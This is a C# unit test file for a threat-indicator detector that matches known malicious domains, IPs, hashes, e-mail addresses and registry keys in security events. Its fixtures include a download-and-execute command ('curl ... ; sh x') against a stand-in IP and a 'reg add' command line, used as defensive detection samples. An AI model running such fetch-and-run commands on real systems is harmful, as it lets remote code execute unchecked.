using HelmAI.Analytics.Intelligence.Matching;
using HelmAI.Core.Events;
using HelmAI.Core.Intelligence;
using HelmAI.Tests.Support;

namespace HelmAI.Tests.Analytics.Intelligence.Matching;

public sealed class IndicatorDetectorTests
{
    private static readonly string[] Lines =
    [
        "evil.example",
        "2001:db8::66",
        "198.51.100.7",
        "http://host.example/Drop",
        "mallory@evil.test\temail\tmedium\t0.5\tA sender of phishing",
        "44d88612fea8a8f36de82e1278abb02f",
        "203.0.113.9:8443\tip_port",
        "203.0.113.128/25",
        "dropper.exe\tfile_name",
        "EvilBot/1.0\tuser_agent",
        "54d88612fea8a8f36de82e1278abb02f\tja3",
        @"HKLM\Software\Evil",
        "/gate/in.php",
    ];

    [Theory]
    [InlineData("""{"dns":{"question":{"name":"EVIL.example."}}}""", "dns.question.name", "evil.example")]
    [InlineData("""{"query":"a.b.evil.example"}""", "query", "evil.example")]
    [InlineData("""{"url":"https://user@evil.example:8443/a?b#c"}""", "url", "evil.example")]
    [InlineData("""{"url":"http://[2001:db8:0::66]/"}""", "url", "2001:db8::66")]
    [InlineData("""{"dest":["10.0.0.1","2001:0DB8::0066"]}""", "dest", "2001:db8::66")]
    [InlineData("""{"ip_address":"::ffff:198.51.100.7"}""", "ip_address", "198.51.100.7")]
    [InlineData("""{"url":"HTTP://HOST.example/Drop"}""", "url", "host.example/Drop")]
    [InlineData("""{"url":"https://host.example/Drop/me?now"}""", "url", "host.example/Drop")]
    [InlineData("""{"url":"http://host.example/drop"}""", "url", null)]
    [InlineData("""{"from":"Mallory@Evil.Test"}""", "from", "mallory@evil.test")]
    [InlineData("""{"md5":"44D88612FEA8A8F36DE82E1278ABB02F"}""", "md5", "44d88612fea8a8f36de82e1278abb02f")]
    [InlineData("""{"Hashes":"SHA1=33,MD5=44D88612FEA8A8F36DE82E1278ABB02F,IMPHASH=0"}""", "Hashes", "44d88612fea8a8f36de82e1278abb02f")]
    [InlineData("""{"Hashes":"IMPHASH=44D88612FEA8A8F36DE82E1278ABB02F"}""", "Hashes", null)]
    [InlineData("""{"text":"see evil.example, or not"}""", "text", "evil.example")]
    [InlineData("""{"text":"see hxxp://evil[.]example/a for more."}""", "text", "evil.example")]
    [InlineData("""{"text":"curl -o x http:\/\/198.51.100.7:81\/a; sh x"}""", "text", "198.51.100.7")]
    [InlineData("""{"text":"mallory[@]evil[.]test wrote"}""", "text", "mallory@evil.test")]
    [InlineData("""{"destination":{"ip":"203.0.113.9","port":8443}}""", "destination.ip", "203.0.113.9:8443")]
    [InlineData("""{"destination":{"ip":"203.0.113.9","port":443}}""", "destination.ip", null)]
    [InlineData("""{"dst_ip":"203.0.113.9","dst_port":"8443"}""", "dst_ip", "203.0.113.9:8443")]
    [InlineData("""{"peer":"203.0.113.9:8443"}""", "peer", "203.0.113.9:8443")]
    [InlineData("""{"src_ip":"203.0.113.200"}""", "src_ip", "203.0.113.128/25")]
    [InlineData("""{"Image":"C:\\Temp\\Dropper.exe"}""", "Image", "dropper.exe")]
    [InlineData("""{"text":"dropper.exe"}""", "text", null)]
    [InlineData("""{"user_agent":"EvilBot/1.0"}""", "user_agent", "EvilBot/1.0")]
    [InlineData("""{"tls":{"client":{"ja3":"54d88612fea8a8f36de82e1278abb02f"}}}""", "tls.client.ja3", "54d88612fea8a8f36de82e1278abb02f")]
    [InlineData("""{"TargetObject":"HKLM\\Software\\Evil\\Value Name"}""", "TargetObject", @"hkey_local_machine\software\evil")]
    [InlineData("""{"CommandLine":"reg add HKLM\\Software\\Evil /v x"}""", "CommandLine", @"hkey_local_machine\software\evil")]
    [InlineData("""{"url":{"domain":"any.example","path":"/gate/in.php"}}""", "url.path", "/gate/in.php")]
    [InlineData("""{"request":"GET http://any.example/gate/in.php?id=1 HTTP/1.1"}""", "request", "/gate/in.php")]
    [InlineData("""{"name":"notevil.example"}""", "name", null)]
    [InlineData("""{"evil.example":1}""", "evil.example", null)]
    [InlineData("""{"path":"C:\\evil.example\\x"}""", "path", null)]
    public async Task Detect_Observable_IsLookedUpInItsCanonicalForm(string json, string field, string? value)
    {
        using var live = await LiveContent.OfLinesAsync(Lines);

        var findings = live.Findings(Some.Event(json));

        Assert.Equal(
            value is null ? [] : [(IndicatorFinding.RulePrefix + value, field, value)],
            findings.Select(static one => (one.RuleId, one.Evidence[0].Field, one.Evidence[0].Pattern!)));
    }

    [Fact]
    public async Task Detect_SameIndicatorTwice_IsOneFindingThatNamesBothPlaces()
    {
        using var live = await LiveContent.OfLinesAsync(Lines);

        var finding = Assert.Single(live.Findings(Some.Event("""{"a":"evil.example","b":"x.evil.example"}""")));

        Assert.Equal(["a", "b"], finding.Evidence.Select(static one => one.Field));
    }

    [Fact]
    public async Task Detect_ListedSeverityAndConfidence_AreTheFindings()
    {
        using var live = await LiveContent.OfLinesAsync(Lines);

        var finding = Assert.Single(live.Findings(Some.Event("""{"from":"mallory@evil.test"}""")));

        Assert.Equal(("Known suspicious e-mail address: A sender of phishing", Severity.Medium, 0.5), (finding.Title, finding.Severity, finding.Confidence));
    }

    [Fact]
    public async Task Detect_SeveralIndicatorsOfOneValue_IsOneFindingThatNamesThem()
    {
        var indicator = new IndexedIndicator { Source = "one", Id = "indicator--1", Type = ObservableType.Domain, Value = "evil.test", Labels = ["suspicious"], Tlp = "AMBER", Confidence = 0.6 };
        using var live = await LiveContent.LoadAsync(
            others: [new FixedSource(indicator), new FixedSource(indicator with { Source = "two", Id = "indicator--2", Labels = ["malware", "attack.t1566"], Name = "Dropper", Tlp = null })]);

        var finding = Assert.Single(live.Findings(Some.Event("""{"a":"evil.test"}""")));

        Assert.Equal(("indicator:indicator--2", "Known malicious domain: Dropper", Severity.High), (finding.RuleId, finding.Title, finding.Severity));
        Assert.Equal(["two: indicator--2", "one: indicator--1"], finding.Evidence.Select(static one => one.Selection));
        Assert.Equal(["malware", "attack.t1566", "suspicious", "tlp.amber"], finding.Tags);
    }

    [Fact]
    public async Task Detect_TenantsOwnIndicator_IsForThatTenantAlone()
    {
        var shared = new IndexedIndicator { Source = "feed", Type = ObservableType.Domain, Value = "shared.test" };
        using var live = await LiveContent.LoadAsync(others: [new FixedSource(shared, shared with { Value = "own.test", TenantId = "globex" })]);
        const string Json = """{"a":"own.test","b":"shared.test"}""";

        Assert.Equal(["indicator:shared.test"], live.Findings(Some.Event(Json)).Select(static one => one.RuleId));
        Assert.Equal(["indicator:own.test", "indicator:shared.test"], live.Findings(Some.Event(Json) with { TenantId = "globex" }).Select(static one => one.RuleId));
    }

    [Fact]
    public async Task Detect_ExpiredIndicator_IsNoMore()
    {
        var expired = new IndexedIndicator { Source = "feed", Type = ObservableType.Domain, Value = "evil.test", ValidUntil = Some.Time };
        using var live = await LiveContent.LoadAsync(others: [new FixedSource(expired)]);

        Assert.Empty(live.Findings(Some.Event("""{"a":"evil.test"}""")));
    }

    [Fact]
    public async Task Detect_NoMatch_AllocatesOnlyItsOutput()
    {
        using var live = await LiveContent.OfLinesAsync(Lines);
        var session = live.CreateSession();
        var securityEvent = Some.Event("""{"ip":"192.0.2.1","query":"good.test","url":"http://good.test/a/b?c","md5":"64d88612fea8a8f36de82e1278abb02f","mail":"ann@good.test","n":"2001:db8::1"}""");
        long Run()
        {
            var before = GC.GetAllocatedBytesForCurrentThread();
            for (var i = 0; i < 1_000; i++)
            {
                session.Detect(securityEvent);
            }

            return (GC.GetAllocatedBytesForCurrentThread() - before) / 1_000;
        }

        Run();
        Assert.InRange(Run(), 0, 64);
    }

    [Fact]
    public async Task Detect_VeryLongOrManyValues_AreBounded()
    {
        using var live = await LiveContent.OfLinesAsync(Lines);
        var many = string.Join(' ', Enumerable.Range(0, 5_000).Select(static i => $"host{i}.test"));

        Assert.Empty(live.Findings(Some.Event($$"""{"a":"{{new string('x', 100_000)}}","b":"{{new string('.', 100_000)}}","c":"{{many}}","d":"{{new string('[', 5_000)}}"}""")));
    }

    [Fact]
    public async Task Detect_WhileSourcesAreReadAnew_NeverMisses()
    {
        using var live = await LiveContent.OfLinesAsync(Lines);
        using var stop = new CancellationTokenSource();
        var known = Some.Event("""{"a":"evil.example"}""");
        var reading = Task.Run(async () =>
        {
            for (var i = 0; i < 50; i++)
            {
                await live.Indicators.LoadAsync(default);
            }

            await stop.CancelAsync();
        });
        var detecting = Enumerable.Range(0, 2).Select(_ => Task.Run(() =>
        {
            var session = live.CreateSession();
            while (!stop.IsCancellationRequested)
            {
                Assert.Single(session.Detect(known).Findings);
            }
        }));

        await Task.WhenAll([reading, .. detecting]);
    }
}
